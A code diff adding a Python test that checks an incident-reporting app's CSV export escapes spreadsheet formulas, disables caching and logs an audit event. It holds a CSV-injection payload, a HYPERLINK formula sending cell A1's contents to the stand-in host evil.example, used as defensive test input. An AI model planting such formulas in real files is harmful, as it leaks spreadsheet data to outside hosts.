@@ -195,3 +195,31 @@ def test_a_machine_storm_nobody_accepted_does_not_rank_a_town_last(app_ctx, clos
     cards = analytics.kpi_cards(app_ctx.incidents.kpis(pz, since, until))
     texts = [c.children[1].children + " " + c.children[0].children for c in cards]
     assert "人工上报 / 机器生成 1 / 30" in texts
+
+
+def test_csv_export_escapes_formulas_is_not_cached_and_is_audited(web, app_ctx, closed_loop):  # noqa: F811
+    """CSV injection (OWASP): a title a spreadsheet would run comes out as text; the export is
+    never cached and the security audit names who exported what (SEC9, issue 19)."""
+    from app import keys
+
+    town = _actor(app_ctx, "town")
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+    bad = app_ctx.incidents.report(town, "0101", *_point_in(app_ctx, town.center[1:]),
+                                   title=evil, description="垃圾")
+    c = web.test_client()
+    login(c, "commander")
+    resp = c.get("/analytics/export.csv")
+    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(resp.get_data(as_text=True)
+                                                           .lstrip("\ufeff")))}
+    assert rows[bad.id]["title"] == "'" + evil
+    assert rows[closed_loop[0].id]["lon"][0].isdigit()     # numbers stay numbers
+    for cell in (v for r in rows.values() for v in r.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    last = app_ctx.redis.xrevrange(keys.SECURITY_AUDIT, count=1)[0][1]
+    assert (last["event"], last["user"], last["path"]) == ("export", "commander",
+                                                           "/analytics/export.csv")
+    assert last["target"].startswith("csv ") and last["reason"] == "3 incidents"
+    for path in ("/analytics/export.geojson", "/analytics/kepler.json"):
+        assert c.get(path).headers["Cache-Control"] == "no-store"
+        assert app_ctx.redis.xrevrange(keys.SECURITY_AUDIT, count=1)[0][1]["path"] == path
